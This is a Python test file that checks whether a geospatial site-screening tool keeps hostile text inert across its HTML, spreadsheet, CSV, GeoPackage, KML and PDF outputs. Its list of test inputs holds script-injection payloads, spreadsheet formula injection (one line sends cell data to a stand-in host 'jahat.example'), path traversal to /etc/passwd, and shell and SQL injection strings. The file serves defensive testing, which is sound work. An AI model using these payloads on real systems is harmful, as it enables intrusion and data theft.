"""
Texts in the id, name, village, district, regency and notes of a site, and in headings, taken into every output.

All sites are screened and written together once; then each output is searched for the text of each site.
"""

from __future__ import annotations

import csv
import functools
import html.parser
import json
import re
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Final
from xml.etree import ElementTree

import geopandas
import openpyxl

import gerai_geo as gg
from hostile_inputs.case import SECRET, Case, forest

FIELDS: Final = ("ID", "Nama Gerai", "Desa", "Kecamatan", "Kabupaten", "Catatan")
NAME: Final = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.-]*")
NEIGHBOUR: Final = re.compile(r"(maps[\\/])?[a-z0-9_-]+\.(html|xlsx|gpkg)(#.*)?")
OWN: Final = re.compile(r"#|data:image/|(maps/)?[a-z0-9_-]+\.html(#|$)|(findings\.gpkg|manifest\.json|daftar\.xlsx)$")
"""Links within a page, and to other pages of a result."""
KEPT: Final = "kept as text everywhere"
GUARDED: Final = "kept as text everywhere, in CSV behind an apostrophe"
BLANK: Final = "read as a cell that holds nothing"
DROPPED: Final = "kept as text everywhere without the characters that no one sees, with an issue"

TEXTS: Final = {
    "<img src=x onerror=alert(1)>": KEPT,
    "</script><script>alert(1)</script>": KEPT,
    "<svg/onload=alert(1)>": KEPT,
    "\"><iframe src=javascript:alert(1)>": KEPT,
    "' onmouseover='alert(1)": KEPT,
    "javascript:alert(1)//": KEPT,
    "<!--": KEPT,
    "]]><x>": KEPT,
    "&lt;b&gt;&#60;script&#62;": KEPT,
    "<style>*{display:none}</style>": KEPT,
    "<base href=//jahat.example>": KEPT,
    "<meta http-equiv=refresh content=0;url=//jahat.example>": KEPT,
    "{{7*7}}{% raw %}": KEPT,
    "${7*7}#{7*7}": KEPT,
    "__proto__": KEPT,
    "constructor": KEPT,
    "{0.__class__}%s%n": KEPT,
    "=1+1": GUARDED,
    "=cmd|' /C calc'!A0": GUARDED,
    "=HYPERLINK(\"http://jahat.example\",\"klik\")": GUARDED,
    "=WEBSERVICE(\"http://jahat.example/\"&A1)": GUARDED,
    "+SUM(1;1)": GUARDED,
    "-2+3+cmd|' /C calc'!A0": GUARDED,
    "@SUM(1+1)*cmd": GUARDED,
    "\t=1+1": GUARDED,
    " =1+1": GUARDED,
    "＝1+1": GUARDED,
    "'=1+1": KEPT,
    "http://jahat.example/klik": KEPT,
    "mailto:jahat@jahat.example": KEPT,
    "\\\\jahat.example\\bagi": KEPT,
    "../../etc/passwd": KEPT,
    "/etc/passwd": KEPT,
    "..\\..\\windows": KEPT,
    "C:\\Windows\\System32": KEPT,
    "CON": KEPT,
    "nul.html": KEPT,
    "index": KEPT,
    ".": BLANK,
    "~/.bashrc": KEPT,
    "$(touch x)`touch y`": KEPT,
    "; rm -rf x": KEPT,
    "'; DROP TABLE findings;--": KEPT,
    "\" OR 1=1 --": KEPT,
    "Robert'); DELETE FROM gpkg_contents;--": KEPT,
    "#read(\"/etc/passwd\")": KEPT,
    "#import \"x.typ\": *": KEPT,
    "\\input{/etc/passwd} $x$ *b* _c_ `d`": KEPT,
    "\u202ednammoc": DROPPED,
    "\u2066terbalik\u2069": DROPPED,
    "nol\u200blebar": DROPPED,
    "\ufeffawal": DROPPED,
    "esc\x1b[31mmerah": DROPPED,
    "nul\0byte": DROPPED,
    "bel\x07l": DROPPED,
    "baris\u2028baru": KEPT,
    "baris\nbaru": KEPT,
    "x\u0301\u0302\u0303" * 20: KEPT,
    "w" * 300: KEPT,
    "﷽" * 30: KEPT,
    "👨‍👩‍👧‍👦": KEPT,
    "نص عربي": KEPT,
    "ｅｖａｌ（１）": KEPT,
    "nan": BLANK,
    "None": BLANK,
    "-1": KEPT,
    "1e5": KEPT,
    "0012": KEPT,
    "TRUE": KEPT,
    "_x0041_": KEPT,
}  # fmt: skip


class _Tags(html.parser.HTMLParser):
    """Tags, attributes that run scripts, and what is loaded or linked."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.scripts: set[str] = set()
        self.links: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.scripts |= {name for name, _value in attrs if name.startswith("on")}
        self.links |= {str(value) for name, value in attrs if name in ("href", "src", "action", "formaction")}


class _Outputs:
    """All outputs of all texts."""

    def __init__(self, folder: Path) -> None:
        rows = [
            {field: f"{text}{'' if field == 'Nama Gerai' else n}" for field in FIELDS}
            | {
                f"kolom {text}": "1",
                "Lintang": round(-2.512345 - n * 0.0012347, 6),
                "Bujur": round(112.312345 + n * 0.0012347, 6),
            }
            for n, text in enumerate(TEXTS)
        ]
        path = folder / "daftar.json"  # of all lists JSON alone can hold every character
        path.write_text(json.dumps(rows))
        sites, self.issues = gg.read_sites(path, lang="en")
        assert len(sites) == len(TEXTS)
        result = gg.screen(sites, forest(folder), issues=self.issues, lang="en")
        self.findings = result.findings
        self.names = result.findings["name"].tolist()
        out = folder / "keluaran"
        gg.write_screening(result, out / "hasil")
        self.pages = gg.write_maps(result, out / "hasil")
        self.files = [
            gg.write_list(result, out / f"daftar.{e}") for e in ("xlsx", "csv", "gpkg", "geojson", "kml", "zip")
        ]
        self.pdfs = gg.write_dossiers(result, out / "berkas", sites=result.findings.index.tolist()[::7])
        self.strange = [p for p in folder.rglob("*") if not NAME.fullmatch(p.name)]
        plain = gg.write_maps(
            gg.Screening(
                result.findings.assign(regency=["Seruyan", *["Katingan"] * (len(sites) - 1)], name="A"),
                result.overlaps,
                result.issues,
                result.manifest,
                result.forest,
            ),
            folder / "polos",
        )
        allowed = [_Tags(p.read_text(encoding="utf-8")) for p in plain]
        self.known = {link for page in allowed for link in page.links}
        self.tags = {t for page in allowed for t in page.tags}
        self.read_pages = {p.name: _Tags(p.read_text(encoding="utf-8")) for p in self.pages}
        self.page_texts = [p.read_text(encoding="utf-8") for p in self.pages]
        with (out / "daftar.csv").open(encoding="utf-8-sig", newline="") as stream:
            table = list(csv.reader(stream))
        self.csv = [row[table[0].index("name")] if "name" in table[0] else row[1] for row in table[1:]]
        self.geojson = [
            f["properties"]["name"]
            for f in json.loads((out / "daftar.geojson").read_text(encoding="utf-8"))["features"]
        ]
        self.gpkg = geopandas.read_file(out / "daftar.gpkg", layer="findings")["name"].tolist()
        self.kml = [
            str(e.text) for e in ElementTree.parse(out / "daftar.kml").iter("{http://www.opengis.net/kml/2.2}name")
        ]
        book = openpyxl.load_workbook(out / "daftar.xlsx")
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        self.formulas = [str(c.value) for c in cells if c.data_type == "f"]
        self.cells = {str(c.value) for c in cells if c.data_type == "s"}
        self.links = [str(c.hyperlink.target) for c in cells if c.hyperlink and c.hyperlink.target]
        self.saved = gg.read_screening(out / "hasil").findings["name"].tolist()


@functools.cache
def _outputs() -> _Outputs:
    with tempfile.TemporaryDirectory() as scratch:
        return _Outputs(Path(scratch))


def found(n: int, text: str) -> str:
    """What became of a text in all outputs."""
    made = _outputs()
    name = made.names[n]
    if not isinstance(name, str):
        return BLANK
    faults = []
    for what, own in (("GeoPackage", made.gpkg), ("GeoJSON", made.geojson), ("saved result", made.saved)):
        faults += [f"{what}: {own[n]!r}"] if own[n] != name else []
    faults += [] if name in made.kml or " ".join(name.split()) in map(str.strip, made.kml) else ["KML: not there"]
    faults += [f"formula: {f}" for f in made.formulas if len(name) > 3 and name.lstrip(" =\t＝") in f]
    faults += [
        f"link: {link}" for link in made.links if len(name) > 3 and name in link and not NEIGHBOUR.fullmatch(link)
    ]
    faults += [] if name in made.cells or name.replace("\r\n", "\n") in made.cells else ["workbook: not there"]
    for page, tags in made.read_pages.items():
        faults += [f"{page}: <{tag}>" for tag in tags.tags - made.tags]
        faults += [f"{page}: {tags.scripts}"] if tags.scripts else []
        faults += [f"{page}: {link}" for link in tags.links - made.known if not OWN.match(link)]
    faults += ["a secret was read"] if any("root:" in page or SECRET in page for page in made.page_texts) else []
    faults += [f"names of files: {made.strange}"] if made.strange else []
    faults += ["PDF"] if not made.pdfs or not all(p.suffix in (".pdf", ".html") for p in made.pdfs) else []
    if faults:
        return "; ".join(sorted(set(faults)))[:400]
    if name != text.strip() and name != text:
        told = "control_characters" in set(made.issues["code"])
        unseen = [c for c in text if c not in name]
        return DROPPED if told and unseen else f"kept as {name!r}"
    if made.csv[n] == name:
        return KEPT
    return (
        GUARDED
        if made.csv[n].startswith("'") and made.csv[n].lstrip("'").strip() == name.lstrip("'").strip()
        else f"CSV: {made.csv[n]!r}"
    )


def _run(n: int, text: str) -> Callable[[Path], str]:
    return lambda folder: found(n, text)


def _shown(text: str) -> str:
    written = "".join(c if c.isprintable() and c != "\u2028" else repr(c)[1:-1] for c in text)
    return f"`{written[:60]}`" + (f" ({len(text)} characters)" if len(text) > 60 else "")


CASES: Final = tuple(Case(_shown(text), _run(n, text), expected) for n, (text, expected) in enumerate(TEXTS.items()))
